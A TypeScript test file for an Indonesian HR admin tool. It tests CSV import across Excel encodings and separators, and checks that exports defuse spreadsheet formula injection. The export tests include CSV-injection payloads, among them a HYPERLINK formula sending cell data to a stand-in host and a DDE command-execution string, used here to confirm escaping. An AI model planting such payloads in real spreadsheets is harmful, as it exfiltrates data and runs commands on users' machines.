import { readFileSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { decodeCsv } from '../../src/admin/csv-text.js'
import { toCsv } from '../../src/admin/export-write.js'
import { FIXTURES, people, startHarness, type Harness } from '../helpers/app.js'
import { tempDir } from '../helpers/db.js'

// Files the way spreadsheet programs in Indonesian offices save them, imported through the CLI.

const fixture = (name: string) => readFileSync(path.join(FIXTURES, name), 'utf8').replace(/^\uFEFF/, '')

/** The same table with another separator, quoting only what needs it (as Excel does). */
const withSeparator = (csv: string, sep: string) =>
  (parse(csv, { bom: true }) as string[][])
    .map((r) => r.map((c) => (c.includes(sep) || /["\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(sep))
    .join('\r\n')

// What Excel writes for the characters its autocorrect puts in names and titles; the rest as Latin-1
const CP1252: Record<string, number> = { '’': 0x92, '‘': 0x91, '“': 0x93, '”': 0x94, '–': 0x96, '€': 0x80 }
const windows1252 = (s: string) => Buffer.from([...s].map((c) => CP1252[c] ?? c.charCodeAt(0)))
const utf16le = (s: string, bom = true) => Buffer.concat([Buffer.from(bom ? [0xff, 0xfe] : []), Buffer.from(s, 'utf16le')])
const utf16be = (s: string) => utf16le(s, false).swap16()
const utf8 = (s: string, bom = false) => Buffer.from(`${bom ? '\uFEFF' : ''}${s}`, 'utf8')

function write(name: string, bytes: Buffer): string {
  const file = path.join(tempDir(), name)
  writeFileSync(file, bytes)
  return file
}

const ANDI = 'André Muh. Ma’ruf, S.IP.'
const SALMIAH = 'Wa Ode Siti Nurhalizä, M.Si.'
const employeesCsv = () => fixture('kendari-employees.csv').replace(people.andi.name, ANDI).replace(people.salmiah.name, SALMIAH)

async function importOrg(h: Harness, units: Buffer, employees: Buffer) {
  const u = write('units.csv', units)
  const e = write('employees.csv', employees)
  const r = await h.cli('import-org', u, e)
  const name = async (nip: string) => (await h.app.db.prisma.employee.findUniqueOrThrow({ where: { nip } })).name
  return { ...r, u, e, andi: await name(people.andi.nip), salmiah: await name(people.salmiah.nip) }
}

describe('decodeCsv', () => {
  it('reads every Windows-1252 character Excel writes in 0x80–0x9F, not as control characters', () => {
    const bytes = Buffer.from([0x4d, 0x61, 0x92, 0x72, 0x75, 0x66, 0x20, 0x96, 0x20, 0x93, 0x4b, 0x65, 0x74, 0x75, 0x61, 0x94, 0x20, 0x80, 0x35, 0x20, 0x8a, 0x9a, 0xe9])
    expect(decodeCsv(bytes)).toEqual({ text: 'Ma’ruf – “Ketua” €5 Ššé', encoding: 'Windows-1252' })
  })

  it('tells UTF-8 from Windows-1252 and UTF-16 by its content, with or without a BOM', () => {
    const text = `nip;name\r\n1;${ANDI}\r\n`
    expect(decodeCsv(utf8(text))).toEqual({ text, encoding: 'UTF-8' })
    expect(decodeCsv(utf8(text, true))).toEqual({ text, encoding: 'UTF-8' })
    expect(decodeCsv(utf16le(text))).toEqual({ text, encoding: 'UTF-16LE' })
    expect(decodeCsv(utf16le(text, false))).toEqual({ text, encoding: 'UTF-16LE' })
    expect(decodeCsv(Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be(text)]))).toEqual({ text, encoding: 'UTF-16BE' })
    expect(decodeCsv(windows1252(text))).toEqual({ text, encoding: 'Windows-1252' })
  })
})

describe('importing spreadsheet CSV', () => {
  it.each([
    ['Windows-1252 with ;', ';', windows1252, "Windows-1252, pemisah ';'"],
    ['UTF-16LE (Unicode text) with tabs', '\t', (s: string) => utf16le(s), 'UTF-16LE, pemisah tab'],
    ['UTF-16BE with a BOM and ;', ';', (s: string) => Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be(s)]), "UTF-16BE, pemisah ';'"],
    ['UTF-8 with a BOM and ;', ';', (s: string) => utf8(s, true), "UTF-8, pemisah ';'"],
  ])('organisation in %s: names come out as written, and the CLI says what it read', async (_name, sep, encode, said) => {
    const h = await startHarness()
    const r = await importOrg(h, encode(withSeparator(fixture('kendari-units.csv'), sep)), encode(withSeparator(employeesCsv(), sep)))
    expect(r.err).toBe('')
    expect(r.code).toBe(0)
    // the units file is plain ASCII, which is UTF-8 as well: only a file with accents can tell the kinds apart
    expect(r.out).toContain(`${r.u}: dibaca sebagai ${said.replace('Windows-1252', 'UTF-8')}\n`)
    expect(r.out).toContain(`${r.e}: dibaca sebagai ${said}\n`)
    expect(r.out).toContain('Pegawai:    0 baru, 2 diubah, 38 tetap')
    expect([r.andi, r.salmiah]).toEqual([ANDI, SALMIAH])
  })

  it('UTF-8 without a BOM is not mistaken for Windows-1252 (no "AndrÃ©"), and says nothing when it is the usual kind', async () => {
    const h = await startHarness()
    const r = await importOrg(h, utf8(fixture('kendari-units.csv')), utf8(employeesCsv()))
    expect(r.code).toBe(0)
    expect(r.out).not.toContain('dibaca sebagai')
    expect([r.andi, r.salmiah]).toEqual([ANDI, SALMIAH])
  })

  it('holidays and leave in Excel\'s encodings; a bad row is reported on its own line and nothing is written', async () => {
    const h = await startHarness()
    const db = h.app.db.prisma
    const holidays = 'date;name;kind\r\n2026-12-24;Cuti Bersama Natal – “Malam Natal”;cuti_bersama\r\n2026-12-25;Hari Raya Natal;libur\r\n'
    const bad = write('libur-salah.csv', windows1252(holidays.replace('2026-12-25', '25/12/2026')))
    const refused = await h.cli('import-holidays', bad)
    expect(refused.code).toBe(1)
    expect(refused.err).toContain(`${bad}:3: date "25/12/2026" bukan tanggal yang valid`)
    expect(await db.holiday.count()).toBe(0)

    const file = write('libur.csv', windows1252(holidays))
    const ok = await h.cli('import-holidays', file)
    expect(ok.out).toContain(`${file}: dibaca sebagai Windows-1252, pemisah ';'`)
    expect(ok.out).toContain('Hari libur: 2 baru, 0 diubah, 0 tetap')
    expect(await db.holiday.findMany({ orderBy: { date: 'asc' }, select: { date: true, name: true, kind: true } })).toEqual([
      { date: '2026-12-24', name: 'Cuti Bersama Natal – “Malam Natal”', kind: 'cuti_bersama' },
      { date: '2026-12-25', name: 'Hari Raya Natal', kind: 'libur' },
    ])

    const leave = write('cuti.csv', utf16le(`nip\tfrom\tto\tkind\r\n${people.andi.nip}\t2026-12-01\t2026-12-03\tdinas luar\r\n`, false))
    const imported = await h.cli('import-leave', leave)
    expect(imported.out).toContain(`${leave}: dibaca sebagai UTF-16LE, pemisah tab`)
    expect(await db.leave.findMany({ select: { from: true, to: true, kind: true } })).toEqual([{ from: '2026-12-01', to: '2026-12-03', kind: 'dinas_luar' }])
  })

  it('SKP with ; and a decimal comma in a target, in Windows-1252', async () => {
    const h = await startHarness()
    const rhk = 'Terlaksananya penilaian kinerja ASN yang objektif dan tepat waktu'
    const csv = withSeparator(fixture('kendari-skp-2026.csv'), ';').replaceAll(rhk, `${rhk} (“e-Kinerja”)`).replace(';90;%', ';92,5;%')
    const file = write('skp.csv', windows1252(csv))
    const r = await h.cli('import-skp', file)
    expect(r.err).toBe('')
    expect(r.out).toContain(`${file}: dibaca sebagai Windows-1252, pemisah ';'`)
    const pkp1 = await h.app.db.prisma.rhk.findFirstOrThrow({ where: { code: 'PKP-1' }, select: { text: true, indicators: { select: { target: true } } } })
    expect(pkp1.text).toBe(`${rhk} (“e-Kinerja”)`)
    expect(pkp1.indicators.map((i) => i.target)).toContain(92.5)
  })
})

describe('exports a spreadsheet opens safely', () => {
  const PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\tTab', '\rCR']

  async function withPayloads() {
    const h = await startHarness()
    const andi = await h.app.db.prisma.employee.findUniqueOrThrow({ where: { nip: people.andi.nip } })
    for (const [i, description] of PAYLOADS.entries()) {
      await h.app.db.prisma.activity.create({ data: { employeeId: andi.id, date: `2026-11-${10 + i}`, minutes: 100 + i, description, status: 'DISETUJUI' } })
    }
    const exportTo = async (file: string, ...opts: string[]) => {
      const out = path.join(tempDir(), file)
      const [kind] = file.split(/[.-]/)
      const r = await h.cli('export', kind!, '--unit', 'BKPSDM-PKP', '--from', '2026-11-01', '--to', '2026-11-30', '--out', out, ...opts)
      expect(r.err).toBe('')
      return out
    }
    return { h, exportTo }
  }

  it('every formula-like text cell gets an apostrophe and quotes, in each separator; numbers stay as they are', async () => {
    const { exportTo } = await withPayloads()
    for (const [flag, sep] of [[',', ','], [';', ';'], ['tab', '\t']] as const) {
      const raw = readFileSync(await exportTo(`aktivitas-${flag}.csv`, '--separator', flag), 'utf8')
      for (const p of PAYLOADS) expect(raw).toContain(`${sep}"'${p.replace(/"/g, '""')}"${sep}`)
      const rows = (parse(raw, { bom: true, delimiter: sep, relax_quotes: false }) as string[][]).slice(1)
      expect(rows.map((r) => r[9])).toEqual(PAYLOADS.map((p) => `'${p}`))
      expect(rows.map((r) => r[8])).toEqual(['100', '101', '102', '103', '104', '105'])
      expect(raw).toContain(`${sep}100${sep}`) // unquoted: Excel reads a number
    }
  })

  it('XLSX holds them as plain text cells, not formulas', async () => {
    const { exportTo } = await withPayloads()
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.readFile(await exportTo('aktivitas.xlsx', '--format', 'xlsx'))
    const ws = wb.worksheets[0]!
    for (let r = 2; r <= PAYLOADS.length + 1; r++) {
      const cell = ws.getRow(r).getCell(10)
      expect(cell.type).toBe(ExcelJS.ValueType.String)
      expect(cell.formula).toBeUndefined()
      // XML turns a lone carriage return into a line feed: the text stays text either way
      expect(cell.value).toBe(PAYLOADS[r - 2]!.replace(/\r/g, '\n'))
      expect(ws.getRow(r).getCell(9).type).toBe(ExcelJS.ValueType.Number)
    }
  })

  it("with ';' decimals get a comma and nothing else changes; --decimal titik keeps the point", async () => {
    const { exportTo } = await withPayloads()
    const read = (file: string, delimiter: string) => parse(readFileSync(file, 'utf8'), { bom: true, delimiter }) as string[][]
    const comma = read(await exportTo('menit.csv'), ',')
    const semi = read(await exportTo('menit-semi.csv', '--separator', ';'), ';')
    const points = read(await exportTo('menit-titik.csv', '--separator', ';', '--decimal', 'titik'), ';')
    const andi = comma.find((r) => r[3] === people.andi.nip)!
    expect(andi.slice(8)).toEqual(['615', '6750', '9.1'])
    expect(semi).toEqual(comma.map((r) => r.map((c) => (/^-?\d+\.\d+$/.test(c) ? c.replace('.', ',') : c))))
    expect(semi.flat().filter((c) => /^\d+,\d+$/.test(c)).length).toBeGreaterThan(1)
    expect(points).toEqual(comma)
  })

  it('negative numbers in numeric columns stay numbers; a separator inside a decimal is quoted', () => {
    const table = { sheet: 'x', columns: [{ header: 'Uraian' }, { header: 'Selisih' }], rows: [{ cells: ['-2+3', -2.5] }, { cells: ['Rapat', -15] }] }
    expect(toCsv(table, { separator: ';', decimalComma: true })).toBe(`\uFEFFUraian;Selisih\r\n"'-2+3";-2,5\r\nRapat;-15\r\n`)
    expect(toCsv(table, { decimalComma: true })).toBe(`\uFEFFUraian,Selisih\r\n"'-2+3","-2,5"\r\nRapat,-15\r\n`)
    expect(toCsv(table)).toBe(`\uFEFFUraian,Selisih\r\n"'-2+3",-2.5\r\nRapat,-15\r\n`)
  })
})
